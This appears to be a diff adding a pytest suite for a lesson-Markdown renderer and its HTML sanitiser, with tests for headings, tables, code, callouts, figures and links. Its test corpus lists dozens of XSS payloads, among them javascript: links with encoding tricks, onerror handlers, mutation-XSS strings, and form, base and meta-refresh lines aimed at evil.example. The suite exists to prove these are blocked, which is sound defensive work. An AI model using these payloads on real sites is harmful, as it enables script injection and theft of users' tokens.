@@ -1,0 +1,221 @@
+"""Markdown: what a lesson becomes, and that nothing in it can run."""
+
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import pytest
+
+from lessons.domain.markdown import (
+    ATTRIBUTES,
+    TAGS,
+    clean,
+    render_lesson,
+    render_line,
+    render_text,
+    strip_marks,
+)
+
+SVG = (
+    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 800 20"><title>Row</title>'
+    "<desc>A row.</desc></svg>"
+)
+
+CORPUS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<div style='background:url(javascript:alert(1))'>x</div>",
+    "<style>*{display:none}</style>",
+    "<math><mtext></mtext><mglyph><style><!--</style><img src onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<form action=//evil.example><input name=csrfmiddlewaretoken></form>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<details open ontoggle=alert(1)>",
+    "<object data=x></object><embed src=x>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox(1))",
+    "[x](file:///etc/passwd)",
+    "[x](https://example.org 'a\" onmouseover=\"alert(1)')",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+    '![x" onerror="alert(1)](figures/row.svg)',
+    '![a row](figures/row.svg "<img src=x onerror=alert(1)>")',
+    '```"><script>alert(1)</script>\ncode\n```',
+    "```html\n<script>alert(1)</script>\n```",
+    "    <script>alert(1)</script>",
+    "`<script>alert(1)</script>`",
+    "## <script>alert(1)</script>",
+    '## x" onclick="alert(1)',
+    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
+    'Table: "><script>alert(1)</script>\n\n| a |\n|---|\n| b |',
+    ':::note "><script>alert(1)</script>\nx\n:::',
+    ":::tip\n<script>alert(1)</script>\n:::",
+    ':::"><img src=x onerror=alert(1)>\nx\n:::',
+    '<span data-figure="0"></span>\n\n![a row](figures/row.svg)',
+    "<<script>script>alert(1)<</script>/script>",
+    "<!--<img src='--><img src=x onerror=alert(1)>'>",
+    "<p\x00 onclick=alert(1)>",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+]
+DRAWN = {"svg", "title", "desc"}
+
+
+class Inspector(HTMLParser):
+    """Reads HTML as a browser would, and complains about what may not be there."""
+
+    def __init__(self):
+        super().__init__()
+        self.tags: list[str] = []
+
+    def handle_starttag(self, tag, attributes):
+        self.tags.append(tag)
+        assert tag in TAGS | DRAWN, f"<{tag}> is let through"
+        for name, value in attributes:
+            assert not name.startswith("on"), f"{name} on <{tag}> is let through"
+            assert name != "style", f"style on <{tag}> is let through"
+            if tag not in DRAWN:
+                assert name in ATTRIBUTES[tag], f"{name} on <{tag}> is let through"
+            if name in ("href", "src"):
+                assert urlsplit(value or "").scheme in ("", "http", "https", "mailto"), value
+
+
+def inspect(html: str) -> Inspector:
+    inspector = Inspector()
+    inspector.feed(html)
+    inspector.close()
+    return inspector
+
+
+def page(text: str, **figures) -> str:
+    rendered = render_lesson(text, figures={"figures/row.svg": SVG})
+    return "\n".join(block.get("html", "") for block in rendered.blocks)
+
+
+@pytest.mark.parametrize("text", CORPUS)
+def test_nothing_hostile_passes(text):
+    for html in (page(text), render_text(text), render_line(text)):
+        inspect(html)
+
+
+@pytest.mark.parametrize("text", CORPUS)
+def test_raw_html_does_not_survive_the_cleaner_either(text):
+    """The second line of defence, as if the renderer let every tag through."""
+    inspect(clean(text))
+
+
+def test_a_lesson_is_parted_where_a_check_stands():
+    rendered = render_lesson("One.\n\n:::check q-one\n:::\n\nTwo.\n", figures={})
+
+    assert rendered.blocks == [{"html": "<p>One.</p>"}, {"check": "q-one"}, {"html": "<p>Two.</p>"}]
+    assert rendered.checks == [(2, "q-one")]
+
+
+def test_headings_of_the_second_level_are_the_sections():
+    rendered = render_lesson("## I and we\n\n### In detail\n\n## I and we\n", figures={})
+
+    assert rendered.sections == [
+        {"slug": "i-and-we", "title": "I and we"},
+        {"slug": "i-and-we-2", "title": "I and we"},
+    ]
+    assert rendered.anchors == {"i-and-we", "in-detail", "i-and-we-2"}
+    assert '<h3 id="in-detail">In detail</h3>' in rendered.blocks[0]["html"]
+
+
+def test_a_heading_with_marks_has_plain_words_in_the_contents():
+    rendered = render_lesson("## What `async` *really* means\n", figures={})
+
+    assert rendered.sections == [
+        {"slug": "what-async-really-means", "title": "What async really means"}
+    ]
+
+
+def test_a_table_scrolls_in_a_frame_that_has_a_name_and_takes_the_focus():
+    html = page("## Prices\n\n| Part | Price |\n|---|--:|\n| One | 2 |\n")
+
+    assert (
+        '<div class="table-frame" role="region" tabindex="0" aria-label="Prices">'
+        '<table class="table table--sticky">' in html
+    )
+    assert '<th class="align-right" scope="col">Price</th>' in html
+    assert '<td class="align-right">2</td>' in html
+
+
+def test_a_line_above_a_table_is_its_caption():
+    html = page("Table: What each part *costs*\n\n| Part |\n|---|\n| One |\n")
+
+    assert "<caption>What each part costs</caption>" in html
+    assert "<p>" not in html
+
+
+def test_code_has_its_language_and_coloured_words():
+    html = page("```python\nreturn 1\n```\n")
+
+    assert '<code class="language-python"><span class="k">return</span>' in html
+    assert '<pre tabindex="0" role="region" aria-label="Code in python">' in html
+
+
+def test_code_in_an_unknown_language_is_plain():
+    assert '<code class="language-klingon">a &lt; b\n</code>' in page("```klingon\na < b\n```\n")
+
+
+@pytest.mark.parametrize(
+    ("kind", "word"),
+    [
+        ("note", "Note"),
+        ("tip", "Tip"),
+        ("warning", "Take care"),
+        ("misconception", "Often mistaken"),
+    ],
+)
+def test_a_callout_says_what_it_is(kind, word):
+    html = page(f":::{kind}\nBody.\n:::\n")
+
+    assert f'<div class="callout callout--{kind}" role="note">' in html
+    assert f'<p class="callout__kind">{word}</p><p>Body.</p>' in html.replace("\n", "")
+
+
+def test_a_figure_is_drawn_in_the_page_with_its_caption():
+    html = page('![A row of boxes.](figures/row.svg "Work in a row.")\n')
+
+    assert html.startswith('<figure class="figure figure--wide"><svg')
+    assert 'role="img" aria-labelledby="figure-0-row-title figure-0-row-desc"' in html
+    assert '<title id="figure-0-row-title">Row</title>' in html
+    assert html.endswith("<figcaption>Work in a row.</figcaption></figure>")
+
+
+def test_two_copies_of_a_figure_share_no_id():
+    html = page("![Row](figures/row.svg)\n\n![Row](figures/row.svg)\n")
+
+    assert html.count('id="figure-0-row-title"') == 1
+    assert html.count('id="figure-1-row-title"') == 1
+
+
+@pytest.mark.parametrize(
+    ("address", "external"),
+    [
+        ("https://example.org", True),
+        ("//example.org", True),
+        ("#phases", False),
+        ("/lessons/queues/", False),
+    ],
+)
+def test_a_link_that_leaves_says_so(address, external):
+    html = render_text(f"[x]({address})")
+
+    assert ('rel="external noopener noreferrer"' in html) is external
+
+
+def test_a_line_has_no_paragraph_and_a_title_no_marks():
+    assert render_line("A `queue`\n*keeps* it") == "A <code>queue</code> <em>keeps</em> it"
+    assert strip_marks("A `queue`\n*keeps* it\n\n- twice") == "A queue keeps it twice"
